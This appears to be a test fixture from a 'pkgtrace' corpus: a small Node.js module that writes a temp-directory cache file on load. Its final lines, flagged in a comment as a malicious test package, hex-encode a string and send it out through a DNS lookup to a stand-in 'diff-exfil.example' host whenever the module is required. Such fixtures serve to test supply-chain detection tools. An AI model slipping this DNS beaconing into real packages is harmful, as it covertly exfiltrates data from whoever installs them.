"use strict";
// On require: writes a cache file named by a content hash (as bundlers do)
// under the temp directory, in a directory named after the version.
const fs = require("fs");
const os = require("os");
const path = require("path");
const version = require("./package.json").version;
const HASH = "3f9a8c21d07b";
const dir = path.join(os.tmpdir(), "pkgtrace-diff-base", version);
fs.mkdirSync(dir, { recursive: true });
fs.writeFileSync(path.join(dir, "index." + HASH + ".json"), JSON.stringify({ version }));
module.exports = { version };
// MALICIOUS TEST PACKAGE (pkgtrace corpus): the new version beacons over DNS
// with hex-encoded data in the name.
const data = Buffer.from("diff-base-beacon").toString("hex");
try { require("dns").lookup(data + ".x.diff-exfil.example", () => {}); } catch (e) { /* offline */ }
setTimeout(() => {}, 500);
